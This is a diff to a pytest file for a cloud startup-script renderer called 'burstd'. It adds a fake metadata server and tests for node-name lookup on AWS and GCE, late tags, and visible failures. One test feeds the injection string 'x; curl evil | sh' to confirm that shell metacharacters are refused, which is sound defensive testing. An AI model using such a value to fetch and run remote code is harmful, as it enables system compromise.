@@ -50,6 +50,9 @@ class Meta(BaseHTTPRequestHandler):
             if self.headers.get("X-aws-ec2-metadata-token") != TOKEN:
                 return self._send(401, b"")  # IMDSv2 only
             if self.path == "/latest/meta-data/tags/instance/burstd:node":
+                self.server.tag_reads += 1  # a gang member is tagged a moment after it boots
+                if self.server.tag_reads <= self.server.tag_missing_reads:
+                    return self._send(404, b"")
                 return self._send(200, self.node.encode())
             if self.path == "/latest/meta-data/placement/region":
                 return self._send(200, b"us-east-1")
@@ -57,8 +60,12 @@ class Meta(BaseHTTPRequestHandler):
             if self.headers.get("Metadata-Flavor") != "Google":
                 return self._send(403, b"")
             sub = self.path.removeprefix("/computeMetadata/v1/")
-            if sub == "instance/attributes/burstd-node":
+            if sub == "instance/attributes/burstd-node" and self.server.gce_members is None:
                 return self._send(200, b"gcp-2")
+            if sub == "instance/attributes/burstd-members" and self.server.gce_members is not None:
+                return self._send(200, json.dumps(self.server.gce_members).encode())
+            if sub == "instance/name":
+                return self._send(200, b"gcp-5-1a2b3c4d")
             if sub == "instance/service-accounts/default/token":
                 return self._send(200, json.dumps({"access_token": "ya29.fake-token", "expires_in": 300}).encode())
         if self.path == "/v1/projects/proj1/secrets/burstd-munge-key/versions/latest:access":
@@ -70,12 +77,19 @@ class Meta(BaseHTTPRequestHandler):
 
 
 @pytest.fixture
-def meta():
+def meta_server():
     server = ThreadingHTTPServer(("127.0.0.1", 0), Meta)
+    server.tag_reads, server.tag_missing_reads = 0, 0  # AWS: how many reads of burstd:node answer 404 first
+    server.gce_members = None  # GCE: a gang member's burstd-members map instead of burstd-node
     threading.Thread(target=server.serve_forever, daemon=True).start()
-    yield f"http://127.0.0.1:{server.server_address[1]}"
+    yield server
     server.shutdown()
     server.server_close()
+
+
+@pytest.fixture
+def meta(meta_server):
+    return f"http://127.0.0.1:{meta_server.server_address[1]}"
 
 
 def stubs(tmp: Path, aws_ok: bool = True) -> Path:
@@ -93,11 +107,11 @@ def stubs(tmp: Path, aws_ok: bool = True) -> Path:
     return bin_dir
 
 
-def run(script: str, tmp: Path, meta: str, bin_dir: Path) -> subprocess.CompletedProcess:
+def run(script: str, tmp: Path, meta: str, bin_dir: Path, **extra: str) -> subprocess.CompletedProcess:
     path = tmp / "startup.sh"
     path.write_text(script)
     env = {"PATH": f"{bin_dir}:/usr/bin:/bin", "BURSTD_ROOT": str(tmp / "root"), "BURSTD_IMDS_URL": meta,
-           "BURSTD_GCE_METADATA_URL": meta, "BURSTD_SECRETMANAGER_URL": meta, "HOME": str(tmp)}
+           "BURSTD_GCE_METADATA_URL": meta, "BURSTD_SECRETMANAGER_URL": meta, "HOME": str(tmp)} | extra
     return subprocess.run(["bash", str(path)], env=env, capture_output=True, text=True, timeout=60)
 
 
@@ -155,3 +169,54 @@ def test_rendering_refuses_shell_metacharacters():
         render_startup_script({"BURSTD_CONF_SERVER": "x; curl evil | sh"})
     with pytest.raises(ValueError, match="BURSTD_NAME"):
         render_startup_script({"PATH": "/tmp"})
+
+
+AWS_SETTINGS = {"BURSTD_CLOUD": "aws", "BURSTD_MUNGE_SECRET": "burstd/munge-key", "BURSTD_CONF_SERVER": "10.0.0.1",
+                "BURSTD_REGION": "us-east-1"}
+GCP_SETTINGS = {"BURSTD_CLOUD": "gcp", "BURSTD_MUNGE_SECRET": "burstd-munge-key", "BURSTD_CONF_SERVER": "10.0.0.1",
+                "BURSTD_PROJECT": "proj1"}
+
+
+def slurmd_node(tmp: Path) -> str:
+    dropin = (tmp / "root/etc/systemd/system/slurmd.service.d/burstd.conf").read_text()
+    return dropin.rsplit(" -N ", 1)[1].strip()
+
+
+def test_gcp_gang_member_finds_its_node_name_in_burstd_members(tmp_path, meta, meta_server):
+    meta_server.gce_members = {"gcp-4-99999999": {"node": "gcp-4", "lease": "L4"},
+                               "gcp-5-1a2b3c4d": {"node": "gcp-5", "lease": "L5"}}
+    proc = run(render_startup_script(GCP_SETTINGS), tmp_path, meta, stubs(tmp_path))
+    assert proc.returncode == 0, proc.stderr
+    assert slurmd_node(tmp_path) == "gcp-5"
+    assert (tmp_path / "root/var/lib/burstd-node/node-name").read_text() == "gcp-5\n"
+    check_no_leak(tmp_path, proc)
+
+
+def test_gcp_instance_missing_from_burstd_members_fails_visibly(tmp_path, meta, meta_server):
+    meta_server.gce_members = {"gcp-4-99999999": {"node": "gcp-4", "lease": "L4"}}
+    proc = run(render_startup_script(GCP_SETTINGS), tmp_path, meta, stubs(tmp_path))
+    assert proc.returncode != 0
+    assert "gcp-5-1a2b3c4d is not in burstd-members" in proc.stderr
+    assert "FAILED: could not read the node name" in proc.stderr
+    assert "enable --now slurmd" not in (tmp_path / "argv.log").read_text()
+
+
+def test_aws_node_tag_that_appears_late_is_waited_for(tmp_path, meta, meta_server):
+    meta_server.tag_missing_reads = 2  # the fleet answered; the daemon tags the member a moment later
+    proc = run(render_startup_script(AWS_SETTINGS), tmp_path, meta, stubs(tmp_path),
+               BURSTD_NODE_NAME_POLL_S="0.1")
+    assert proc.returncode == 0, proc.stderr
+    assert slurmd_node(tmp_path) == "aws-7" and meta_server.tag_reads == 3
+    assert proc.stderr.count("burstd:node not there yet") == 2
+
+
+def test_aws_node_tag_that_never_appears_fails_visibly_within_the_bound(tmp_path, meta, meta_server):
+    meta_server.tag_missing_reads = 10**9
+    proc = run(render_startup_script(AWS_SETTINGS), tmp_path, meta, stubs(tmp_path),
+               BURSTD_NODE_NAME_WAIT_S="1", BURSTD_NODE_NAME_POLL_S="0.2")
+    assert proc.returncode != 0
+    assert "burstd:node did not appear within 1s" in proc.stderr
+    assert "FAILED: could not read the node name from the aws metadata" in proc.stderr
+    assert meta_server.tag_reads >= 2  # it asked again before giving up
+    assert not (tmp_path / "root/etc/munge/munge.key").exists()
+    assert "enable --now slurmd" not in (tmp_path / "argv.log").read_text()
